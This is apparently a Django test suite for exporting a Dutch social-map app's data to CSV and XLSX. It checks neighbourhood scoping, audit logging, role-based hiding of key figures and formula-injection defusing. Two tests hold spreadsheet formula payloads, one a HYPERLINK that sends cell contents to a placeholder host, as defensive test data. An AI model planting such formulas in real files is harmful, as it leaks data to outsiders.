"""Export of the sociale kaart: only what the user may see, key figures only for roles that may see them."""

import csv
import io

from django.urls import reverse

from openpyxl import load_workbook

from nabij.assets.tests.factories import InitiativeFactory, KeyFigureFactory, PlaceFactory, ProviderFactory
from nabij.privacy.models import AuditEvent


def _csv(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def _content(response) -> bytes:
    return b"".join(response.streaming_content)


def _workbook(response):
    return load_workbook(io.BytesIO(_content(response)), read_only=True)


def test_csv_export_streams_only_items_in_scope(client, worker, buurt, outside_buurt):
    ProviderFactory(name="Hier", buurten=[buurt], phone="030")
    ProviderFactory(name="Elders", buurten=[outside_buurt])
    client.force_login(worker)

    response = client.get(reverse("assets:export"), {"format": "csv", "kind": "organisaties"})

    assert response.status_code == 200
    assert response.streaming
    rows = _csv(response)
    assert rows[0][:3] == ["naam", "soort", "buurten"]
    assert [r[0] for r in rows[1:]] == ["Hier"]


def test_csv_export_applies_the_filter(client, worker, buurt):
    InitiativeFactory(name="Actief", buurten=[buurt], status="actief")
    InitiativeFactory(name="Slapend", buurten=[buurt], status="slapend")
    client.force_login(worker)

    response = client.get(reverse("assets:export"), {"format": "csv", "kind": "initiatieven", "status": "slapend"})

    assert [r[0] for r in _csv(response)[1:]] == ["Slapend"]


def test_export_is_audited_with_its_filter(client, worker, buurt):
    client.force_login(worker)

    client.get(reverse("assets:export"), {"format": "csv", "kind": "plekken", "buurt": buurt.code})

    event = AuditEvent.objects.get(action="export", actor=worker)
    assert event.area_code == buurt.code
    assert event.detail["soorten"] == ["plekken"]


def test_cells_that_look_like_formulas_are_defused(client, worker, buurt):
    ProviderFactory(name="=HYPERLINK(1)", buurten=[buurt])
    client.force_login(worker)

    response = client.get(reverse("assets:export"), {"format": "csv", "kind": "organisaties"})

    assert _csv(response)[1][0] == "'=HYPERLINK(1)"


def test_xlsx_export_has_a_key_figure_sheet_for_a_buurtwerker(client, worker, buurt):
    KeyFigureFactory(label="buurtmoeder", buurt=buurt)
    PlaceFactory(name="Buurthuis", buurt=buurt)
    client.force_login(worker)

    response = client.get(reverse("assets:export"), {"format": "xlsx"})

    workbook = _workbook(response)
    assert workbook.sheetnames == ["Organisaties", "Initiatieven", "Plekken", "Sleutelfiguren"]
    labels = [row[0] for row in workbook["Sleutelfiguren"].iter_rows(min_row=2, values_only=True)]
    assert labels == ["buurtmoeder"]


def test_xlsx_export_never_has_key_figures_for_an_analist(client, analist, buurt):
    KeyFigureFactory(label="buurtmoeder", buurt=buurt)
    client.force_login(analist)

    response = client.get(reverse("assets:export"), {"format": "xlsx"})

    workbook = _workbook(response)
    assert "Sleutelfiguren" not in workbook.sheetnames
    assert b"buurtmoeder" not in _content(response)


def test_key_figure_export_is_refused_to_an_analist(client, analist, buurt):
    KeyFigureFactory(label="buurtmoeder", buurt=buurt)
    client.force_login(analist)

    response = client.get(reverse("assets:export"), {"format": "csv", "kind": "sleutelfiguren"})

    assert response.status_code == 403
    assert AuditEvent.objects.filter(actor=analist, action="export", result="denied").exists()


def test_csv_without_a_kind_is_bad_input(client, worker):
    client.force_login(worker)

    response = client.get(reverse("assets:export"), {"format": "csv"})

    assert response.status_code == 422


def test_an_export_can_be_imported_again_as_updates(client, buurt):
    from nabij.assets import imports
    from nabij.assets.tests.factories import UserFactory

    coordinator = UserFactory(role="coordinator")
    coordinator.scope_gemeenten.set([buurt.gemeente])
    ProviderFactory(name="Taalhuis", buurten=[buurt], kind="taalhuis", phone="030", is_public=True)
    client.force_login(coordinator)
    response = client.get(reverse("assets:export"), {"format": "csv", "kind": "organisaties"})
    data = b"".join(response.streaming_content)

    result = imports.social_map_import_preview(user=coordinator, kind="organisaties", data=data, filename="x.csv")

    assert result.ok
    assert [(r.name, r.action) for r in result.rows] == [("Taalhuis", "update")]


def test_export_page_without_parameters_shows_the_form(client, worker):
    client.force_login(worker)

    response = client.get(reverse("assets:export"))

    assert response.status_code == 200
    assert 'id="export-form"' in response.content.decode()


HYPERLINK = '=HYPERLINK("https://voorbeeld.invalid/?d="&A1,"Klik hier")'


def test_a_key_figures_formula_arrives_as_text_in_csv(client, worker, buurt):
    KeyFigureFactory(label="buurtmoeder", gifts=HYPERLINK, buurt=buurt, consent_recorded_by=worker)
    client.force_login(worker)

    response = client.get(reverse("assets:export"), {"format": "csv", "kind": "sleutelfiguren"})

    assert _csv(response)[1][3] == "'" + HYPERLINK


def test_a_formula_arrives_as_text_in_xlsx(client, worker, buurt):
    ProviderFactory(name=HYPERLINK, buurten=[buurt])
    KeyFigureFactory(label="buurtmoeder", gifts=HYPERLINK, buurt=buurt, consent_recorded_by=worker)
    client.force_login(worker)

    workbook = load_workbook(io.BytesIO(_content(client.get(reverse("assets:export"), {"format": "xlsx"}))))

    for title, column in (("Organisaties", 1), ("Sleutelfiguren", 4)):
        cell = workbook[title].cell(row=2, column=column)
        assert (cell.value, cell.data_type) == (HYPERLINK, "s")
        assert cell.quotePrefix
